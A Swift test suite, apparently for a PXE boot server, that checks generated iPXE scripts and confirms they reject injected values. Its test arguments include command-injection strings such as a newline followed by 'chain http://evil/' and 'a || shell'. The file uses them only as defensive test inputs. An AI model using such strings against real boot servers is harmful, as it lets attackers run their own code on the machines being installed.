// SPDX-License-Identifier: Apache-2.0
import PXE
import Testing

@Suite struct IPXEScriptTests {
    private func script(_ commandLine: String, firmware: Firmware = .bios) throws -> [String] {
        let install = InstallBoot(token: Fixture.token, kernel: "k", initrd: "i", commandLine: commandLine)
        let text = try IPXEScript.install(
            install, firmware: firmware, base: "http://192.168.77.1:8080", script: "/boot/m/script.ipxe")
        return text.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
    }

    @Test func startsKernelAndRamdisk() throws {
        let lines = try script("quiet root=/dev/ram0 ingot.token=abc")
        #expect(lines.first == "#!ipxe")
        let base = "http://192.168.77.1:8080/boot/token-0123456789"
        #expect(
            lines.contains("kernel --name kernel \(base)/kernel quiet root=/dev/ram0 ingot.token=abc || goto failed"))
        #expect(lines.contains("initrd --name initrd \(base)/initrd || goto failed"))
        #expect(lines.contains("boot || goto failed"))
    }

    @Test func uefiKernelsAreToldTheRamdisksName() throws {
        #expect(try script("quiet", firmware: .uefi).contains { $0.contains("/kernel initrd=initrd quiet ||") })
        #expect(try !script("quiet", firmware: .bios).contains { $0.contains("initrd=initrd") })
    }

    @Test(arguments: Firmware.allCases)
    func localScriptLeavesWithFailure(firmware: Firmware) {
        let lines = IPXEScript.local(firmware: firmware).split(separator: "\n")
        #expect(lines.first == "#!ipxe")
        #expect(lines.last == "exit 1")
    }

    /// No value may change the shape of the script: what cannot be written is refused, the rest keeps line count.
    @Test(arguments: [
        "a\nchain http://evil/", "a\rb", "a\0b", "a\tb", "a || shell", "a && shell", "a ; shell", "a # b", "#x",
        "${net0/ip}", "a=${x", "a\\", "é", "a\u{2028}b", "a\u{7f}", String(repeating: "x", count: 2048),
    ])
    func hostileCommandLinesAreRefused(value: String) throws {
        let error = #expect(throws: IPXEScript.ValueError.self) { try script(value) }
        #expect(error?.field == "kernel command line")
    }

    @Test(arguments: ["", "a||b", "a&&b", "a;b", "x=$y", "a#b", "\"quoted value\"", "$ {", "--- console=ttyS0"])
    func harmlessCommandLinesKeepTheShape(value: String) throws {
        let plain = try script("")
        let lines = try script(value)
        #expect(lines.count == plain.count)
        #expect(zip(lines, plain).filter { $0.0 != $0.1 }.count <= 1)
    }

    @Test(arguments: ["short", "has space 12345", "new\nline12345", "semi;colon12345", "dollar${x}12345", ""])
    func tableRefusesHostileTokens(token: String) throws {
        let table = BootTable()
        let install = InstallBoot(token: token, kernel: "k", initrd: "i", commandLine: "")
        #expect(throws: BootTableError.malformedToken) { try table.set(Fixture.client(.install(install))) }
        #expect(table.client(for: Fixture.mac) == nil)
    }

    @Test func tableRefusesHostileCommandLines() throws {
        let table = BootTable()
        let install = InstallBoot(token: Fixture.token, kernel: "k", initrd: "i", commandLine: "a\nb")
        #expect(throws: BootTableError.self) { try table.set(Fixture.client(.install(install))) }
    }
}
